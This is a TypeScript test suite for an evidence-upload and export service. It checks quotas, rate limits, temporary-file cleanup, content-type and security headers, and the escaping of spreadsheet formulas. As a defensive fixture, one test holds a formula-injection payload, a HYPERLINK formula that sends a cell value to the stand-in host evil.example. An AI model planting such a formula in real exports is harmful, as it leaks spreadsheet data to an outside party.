// Uploads only while a contract takes evidence and within its quota and rate; temporary files of
// unfinished writes cleaned; spreadsheet exports that cannot run formulas; security headers.
import { mkdir, mkdtemp, readdir, rm, utimes, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { backends } from "@sroi/db/testing/backends";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  addEvidence,
  EvidenceRefusedError,
  evidenceRefusal,
  FileEvidenceStore,
} from "../src/services/evidence.js";
import { type Client, startTestApi, type TestApi } from "./support.js";

const PDF = Buffer.from("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n");

describe("evidence files on disk", () => {
  let directory: string;
  beforeAll(async () => {
    directory = await mkdtemp(join(tmpdir(), "sroi-evidence-temp-"));
  });
  afterAll(async () => {
    await rm(directory, { recursive: true, force: true });
  });

  it("removes the temporary file when a write fails, and old unfinished ones at start", async () => {
    const store = new FileEvidenceStore(directory);
    const { storageKey } = await store.put(PDF);
    // Make the rename fail: the final name is taken by a non-empty folder.
    const other = Buffer.from("%PDF-1.4 other");
    const otherKey = (await store.put(other)).storageKey;
    await rm(join(directory, otherKey));
    await mkdir(join(directory, otherKey, "x"), { recursive: true });
    await expect(store.put(other)).rejects.toThrow();
    expect((await readdir(directory)).filter((name) => name.startsWith("."))).toEqual([]);

    // A killed process leaves ".<sha>.<pid>.<time>" behind; an hour later it is swept.
    const stale = join(directory, `.${"a".repeat(64)}.123.1`);
    const fresh = join(directory, `.${"b".repeat(64)}.456.2`);
    await writeFile(stale, "half");
    await writeFile(fresh, "in progress");
    const twoHoursAgo = new Date(Date.now() - 2 * 3_600_000);
    await utimes(stale, twoHoursAgo, twoHoursAgo);
    expect(await store.removeUnfinishedWrites()).toBe(1);
    expect((await readdir(directory)).sort()).toEqual(
      [`.${"b".repeat(64)}.456.2`, otherKey, storageKey].sort(),
    );
  });
});

describe.each(backends())("uploads, exports and headers on $name", (backend) => {
  let api: TestApi;
  let eemland: Client;
  beforeAll(async () => {
    if (!backend.available) return;
    api = await startTestApi(backend, { demo: true });
    eemland = await api.loginAs("admin@bouwbedrijf-eemland.demo");
  });
  afterAll(async () => {
    await api?.close();
  });

  const upload = (client: Client, contractId: string, body: Buffer) =>
    fetch(`${api.url}/bewijs?contractId=${contractId}&bestandsnaam=bewijs.pdf`, {
      method: "POST",
      headers: { "content-type": "application/pdf", cookie: client.cookie ?? "" },
      body,
    });

  it.skipIf(!backend.available)(
    "shows PDF and images inline by their content, framed by the product's own pages only",
    async () => {
      const contract = await api.prisma.contract.findFirstOrThrow({
        where: { contractor: { kvkNumber: "90000001" }, status: { not: "CLOSED" } },
      });
      const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0]);
      const download = async (body: Buffer) => {
        const stored = (await (await upload(eemland, contract.id, body)).json()) as { id: string };
        return {
          id: stored.id,
          get: () =>
            fetch(`${api.url}/bewijs/${stored.id}`, { headers: { cookie: eemland.cookie ?? "" } }),
        };
      };
      const pdf = await download(PDF);
      // The row's type is not trusted: the bytes decide what the browser is told.
      await api.prisma.evidenceFile.update({
        where: { id: pdf.id },
        data: { mimeType: "text/html" },
      });
      for (const [file, type] of [
        [pdf, "application/pdf"],
        [await download(PNG), "image/png"],
      ] as const) {
        const response = await file.get();
        expect(response.status).toBe(200);
        expect(response.headers.get("content-type")).toBe(type);
        expect(response.headers.get("content-disposition")).toBe('inline; filename="bewijs.pdf"');
        expect(response.headers.get("content-security-policy")).toBe(
          "default-src 'none'; img-src 'self'; frame-ancestors 'self'; base-uri 'none'; form-action 'none'",
        );
        expect(response.headers.get("x-frame-options")).toBe("SAMEORIGIN");
        expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      }
      // The pages themselves may frame this server's files, nothing else.
      const page = await fetch(`${api.url}/healthz`);
      expect(page.headers.get("content-security-policy")).toContain("frame-src 'self'");
    },
  );

  it.skipIf(!backend.available)("refuses evidence on a closed contract", async () => {
    const contract = await api.prisma.contract.findFirstOrThrow({
      where: { contractor: { kvkNumber: "90000001" }, status: { not: "CLOSED" } },
    });
    expect((await upload(eemland, contract.id, PDF)).status).toBe(201);
    await api.prisma.contract.update({ where: { id: contract.id }, data: { status: "CLOSED" } });
    const refused = await upload(eemland, contract.id, PDF);
    expect(refused.status).toBe(409);
    expect(await refused.json()).toEqual({
      message: "Deze opdracht is afgesloten; er kan geen bewijs meer bij.",
    });
    await api.prisma.contract.update({
      where: { id: contract.id },
      data: { status: contract.status },
    });
  });

  it.skipIf(!backend.available)(
    "counts a contract's evidence against its quota, in bytes and in files",
    async () => {
      const contract = await api.prisma.contract.findFirstOrThrow({
        where: { reference: "AMF-2026-001" },
        include: { evidenceFiles: { select: { size: true } } },
      });
      const held = contract.evidenceFiles.reduce((total, file) => total + file.size, 0);
      const files = contract.evidenceFiles.length;
      const quota = { bytes: held + 100, files: files + 1 };
      expect(await evidenceRefusal(api.prisma, contract, 100, quota)).toBeNull();
      expect(await evidenceRefusal(api.prisma, contract, 101, quota)).toMatch(
        /het maximum aan bewijsstukken bereikt/,
      );
      expect(await evidenceRefusal(api.prisma, contract, 1, { bytes: held + 100, files })).toMatch(
        /het maximum aan bewijsstukken bereikt/,
      );
    },
  );

  it.skipIf(!backend.available)(
    "simultaneous uploads to one contract stay within its quota: each counts the ones before it",
    async () => {
      const contract = await api.prisma.contract.findFirstOrThrow({
        where: { reference: "AMF-2026-001" },
        include: { evidenceFiles: { select: { size: true } } },
      });
      const held = contract.evidenceFiles.length;
      const quota = { bytes: 500 * 1024 * 1024, files: held + 2 };
      const directory = await mkdtemp(join(tmpdir(), "sroi-evidence-race-"));
      const store = new FileEvidenceStore(directory);
      const uploader = await api.prisma.user.findUniqueOrThrow({
        where: { email: "admin@bouwbedrijf-eemland.demo" },
      });
      try {
        // Five at once, room for two: before, each read the same total and all five were added.
        const outcomes = await Promise.allSettled(
          [1, 2, 3, 4, 5].map((n) =>
            addEvidence(
              api.prisma,
              store,
              { userId: uploader.id, email: uploader.email },
              {
                contractId: contract.id,
                fileName: `gelijktijdig-${n}.pdf`,
                mimeType: "application/pdf",
                bytes: Buffer.concat([PDF, Buffer.from(`% ${n}\n`)]),
              },
              quota,
            ),
          ),
        );
        expect(outcomes.filter((o) => o.status === "fulfilled")).toHaveLength(2);
        const refused = outcomes.filter((o) => o.status === "rejected");
        expect(refused).toHaveLength(3);
        for (const outcome of refused)
          expect((outcome as PromiseRejectedResult).reason).toBeInstanceOf(EvidenceRefusedError);
        expect(await api.prisma.evidenceFile.count({ where: { contractId: contract.id } })).toBe(
          held + 2,
        );
      } finally {
        await api.prisma.evidenceFile.deleteMany({
          where: { contractId: contract.id, fileName: { startsWith: "gelijktijdig-" } },
        });
        await rm(directory, { recursive: true, force: true });
      }
    },
  );

  it.skipIf(!backend.available)("limits uploads to 60 per person in 10 minutes", async () => {
    const contract = await api.prisma.contract.findFirstOrThrow({
      where: { contractor: { kvkNumber: "90000002" }, status: { not: "CLOSED" } },
    });
    const spaarne = await api.loginAs("admin@groen-spaarne.demo");
    const statuses: number[] = [];
    for (let i = 0; i < 61; i++) statuses.push((await upload(spaarne, contract.id, PDF)).status);
    expect(statuses.slice(0, 60).every((status) => status === 201)).toBe(true);
    expect(statuses[60]).toBe(429);
  });

  it.skipIf(!backend.available)(
    "exports a formula-like catalogue cell as text in CSV and XLSX",
    async () => {
      const region = await api.prisma.region.findFirstOrThrow();
      await api.prisma.catalogueVersion.create({
        data: {
          key: "formule-test",
          name: "Formuletest",
          regionId: region.id,
          blocks: {
            create: {
              position: 0,
              code: "X",
              name: '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
              category: "EMPLOYMENT",
              kind: "PER_ACTIVITY",
              amount: "100.00",
              note: "+1+1",
            },
          },
        },
      });
      const admin = await api.loginAs("admin@platform.demo");
      const get = (file: string) =>
        fetch(`${api.url}/export/catalogi/${file}`, { headers: { cookie: admin.cookie ?? "" } });
      const csv = await (await get("formule-test.csv")).text();
      const line = csv.split("\r\n")[1] ?? "";
      expect(line).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Klik"")"`);
      expect(line).toContain(",'+1+1");
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(await (await get("formule-test.xlsx")).arrayBuffer());
      const row = workbook.getWorksheet("Bouwblokken")?.getRow(2);
      expect(row?.getCell(3).value).toBe(`'=HYPERLINK("https://evil.example/?d="&A1,"Klik")`);
      expect(row?.getCell(3).formula).toBeUndefined();
    },
  );

  it.skipIf(!backend.available)("sends the security headers on every answer", async () => {
    for (const response of [
      await fetch(`${api.url}/healthz`),
      await fetch(`${api.url}/graphql`, {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ query: "{ me { email } }" }),
      }),
      await fetch(`${api.url}/dev/mailbox`),
    ]) {
      const csp = response.headers.get("content-security-policy") ?? "";
      expect(csp).toContain("default-src 'self'");
      expect(csp).toContain("script-src 'self';");
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).toContain("object-src 'none'");
      expect(csp).not.toContain("unsafe-inline");
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      expect(response.headers.get("x-frame-options")).toBe("DENY");
      expect(response.headers.get("referrer-policy")).toBe("same-origin");
      expect(response.headers.get("permissions-policy")).toContain("camera=()");
    }
  });
});
